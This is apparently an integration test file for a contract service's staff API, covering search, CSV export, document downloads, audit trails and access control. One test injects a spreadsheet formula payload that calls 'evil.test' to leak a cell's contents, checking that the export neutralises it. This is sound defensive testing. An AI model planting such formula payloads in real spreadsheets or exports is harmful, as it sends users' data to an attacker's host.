import { parse } from 'csv-parse/sync';
import { randomUUID } from 'node:crypto';
import {
  ApiClient,
  staffToken,
  waitFor,
  application,
  clientSession,
  crm,
  openCourse,
  validForm,
  stackEnv,
} from '@otus/testing';

const env = stackEnv();

/** Staff see contracts (never passport data), download documents and export CSV; other services fetch PDFs internally. */
let course: { code: string };
let operator: ApiClient;
let withDraft: { applicationId: string; crmApplicationId: string };

beforeAll(async () => {
  course = await openCourse({ code: `STAFF-${randomUUID().slice(0, 6)}` });
  operator = new ApiClient(`${env.GATEWAY_URL}/api/contract`, await staffToken({ roles: ['operator'] }));
  const amo = await crm();
  const dto = application(course.code, { clientName: 'Мария Сидорова' });
  const { body } = await amo.post('/applications', dto);
  await amo.post('/applications', application(course.code));
  const client = await clientSession(body.applicationId);
  await client.post('/form', validForm({ fullName: 'Сидорова Мария Ивановна', passportNumber: '135790' }));
  await waitFor('the draft', async () => (await client.get('')).body.state === 'SIGNING', { timeoutMs: 60_000 });
  withDraft = { applicationId: body.applicationId, crmApplicationId: dto.crmApplicationId };
});

it('lists and searches contracts by course, status and name, without personal documents data', async () => {
  const byCourse = await operator.get(`/contracts?courseCode=${course.code}`);
  expect(byCourse.status).toBe(200);
  expect(byCourse.body.total).toBe(2);
  const drafts = await operator.get(`/contracts?courseCode=${course.code}&status=DRAFT_READY`);
  expect(drafts.body.items).toEqual([
    expect.objectContaining({
      applicationId: withDraft.applicationId,
      clientName: 'Сидорова Мария Ивановна',
      hasDraft: true,
    }),
  ]);
  expect((await operator.get(`/contracts?q=${encodeURIComponent('сидорова')}`)).body.items[0].applicationId).toBe(
    withDraft.applicationId,
  );
  expect(JSON.stringify(byCourse.body)).not.toContain('135790');
  expect((await operator.get('/contracts?status=UNKNOWN')).status).toBe(400);
  expect((await operator.get(`/contracts?q=${encodeURIComponent('.*')}`)).body.total).toBe(0);
});

it('exports CSV with Cyrillic intact', async () => {
  const csv = await operator.download(`/contracts/export.csv?courseCode=${course.code}`);
  expect(csv.status).toBe(200);
  expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
  const text = csv.bytes.toString('utf8');
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const [header, ...rows] = parse(text, { bom: true }) as string[][];
  expect(header.join(',')).toBe(
    'applicationId,crmApplicationId,courseCode,clientName,clientEmail,clientPhone,status,outcome,outcomeReason,signedAt,createdAt',
  );
  expect(rows).toHaveLength(2);
  expect(rows.map((row) => row[3])).toContain('Сидорова Мария Ивановна');
});

it('exports CRM-supplied text as text, never as a spreadsheet formula (OWASP CSV injection)', async () => {
  const hostile = { code: `CSVINJ-${randomUUID().slice(0, 6)}` };
  await openCourse(hostile);
  const amo = await crm();
  const formula = '=HYPERLINK("http://evil.test/?"&E2,"open")';
  const dto = application(hostile.code, {
    crmApplicationId: `-${randomUUID()}`,
    clientName: formula,
    clientEmail: `=1+1-${randomUUID().slice(0, 6)}@example.test`,
    clientPhone: '+79991234567',
  });
  const posted = await amo.post('/applications', dto);
  expect(posted.status).toBe(201);
  const csv = await operator.download(`/contracts/export.csv?courseCode=${hostile.code}`);
  expect(csv.status).toBe(200);
  const [header, ...rows] = parse(csv.bytes.toString('utf8'), { bom: true }) as string[][];
  expect(rows).toHaveLength(1);
  const cell = Object.fromEntries(header.map((name, i) => [name, rows[0][i]]));
  expect(cell.clientName).toBe(`'${formula}`);
  expect(cell.crmApplicationId).toBe(`'${dto.crmApplicationId}`);
  expect(cell.clientEmail).toBe(`'${dto.clientEmail}`);
  // A leading '+' is a formula to Excel too: the phone number is exported as text, '+7…
  expect(cell.clientPhone).toBe("'+79991234567");
  // Cells that cannot start a formula are unchanged.
  expect(cell.applicationId).toBe(posted.body.applicationId);
  expect(cell.courseCode).toBe(hostile.code);
  for (const value of Object.values(cell)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
});

it('downloads documents and shows the audit trail', async () => {
  const pdf = await operator.download(`/contracts/${withDraft.applicationId}/documents/draft`);
  expect(pdf.status).toBe(200);
  expect(pdf.bytes.subarray(0, 5).toString()).toBe('%PDF-');
  expect((await operator.download(`/contracts/${withDraft.applicationId}/documents/signed`)).status).toBe(404);
  const trail = (await operator.get(`/contracts/${withDraft.applicationId}/audit`)).body.map(
    (e: { action: string }) => e.action,
  );
  expect(trail).toEqual(
    expect.arrayContaining([
      'application.created',
      'link.sent',
      'client-data.submitted',
      'draft.generated',
      'document.downloaded',
    ]),
  );
});

it('is for staff only', async () => {
  expect((await new ApiClient(`${env.GATEWAY_URL}/api/contract`).get('/contracts')).status).toBe(401);
});

it('serves PDFs to other services internally, never through the gateway', async () => {
  const { body } = await operator.get(`/contracts?courseCode=${course.code}&status=DRAFT_READY`);
  expect(body.items).toHaveLength(1);
  const direct = new ApiClient(`http://${env.STACK_HOST}:${env.CONTRACT_PORT}`);
  const mongoDocumentId = await (async () => {
    const { createConnection } = await import('mongoose');
    const mongo = await createConnection(env.CONTRACT_MONGO_URL).asPromise();
    try {
      return (await mongo.collection('documents').findOne({ applicationId: withDraft.applicationId }))!
        ._id as unknown as string;
    } finally {
      await mongo.close();
    }
  })();
  // Stored under an id that follows from application and kind: lookups never scan the PDFs.
  expect(mongoDocumentId).toBe(`${withDraft.applicationId}.draft`);
  expect((await direct.download(`/internal/documents/${mongoDocumentId}`)).status).toBe(401);
  const internal = await direct
    .withHeaders({ 'x-internal-token': env.INTERNAL_API_TOKEN })
    .download(`/internal/documents/${mongoDocumentId}`);
  expect(internal.status).toBe(200);
  expect(internal.bytes.subarray(0, 5).toString()).toBe('%PDF-');
  expect((await new ApiClient(env.GATEWAY_URL).get(`/api/contract/internal/documents/${mongoDocumentId}`)).status).toBe(
    404,
  );
});
